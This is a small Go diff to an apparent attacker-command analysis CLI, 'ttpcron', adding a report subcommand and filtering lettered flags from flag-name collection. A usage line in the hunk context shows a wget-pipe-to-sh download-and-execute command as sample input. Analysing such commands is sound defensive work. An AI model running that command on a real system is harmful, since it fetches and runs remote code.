@@ -64,6 +64,7 @@ ttpcron explain "wget http://203.0.113.9/x.sh -O- | sh"`,
 				attackerCommand(),
 				tagsCommand(),
 				summaryCommand(),
+				reportCommand(),
 				attackersCommand(),
 				sessionsCommand(),
 				techniquesCommand(),
@@ -191,7 +192,11 @@ func flagNames() []string {
 	names := slices.Clone(settings.SharedFlags)
 	rootCommand().Each(func(c *command) {
 		if c.Flags != nil {
-			c.Flags.VisitAll(func(f *flag.Flag) { names = append(names, f.Name) })
+			c.Flags.VisitAll(func(f *flag.Flag) {
+				if cli.LetteredFlag(f) == "" {
+					names = append(names, f.Name)
+				}
+			})
 		}
 	})
 	slices.Sort(names)
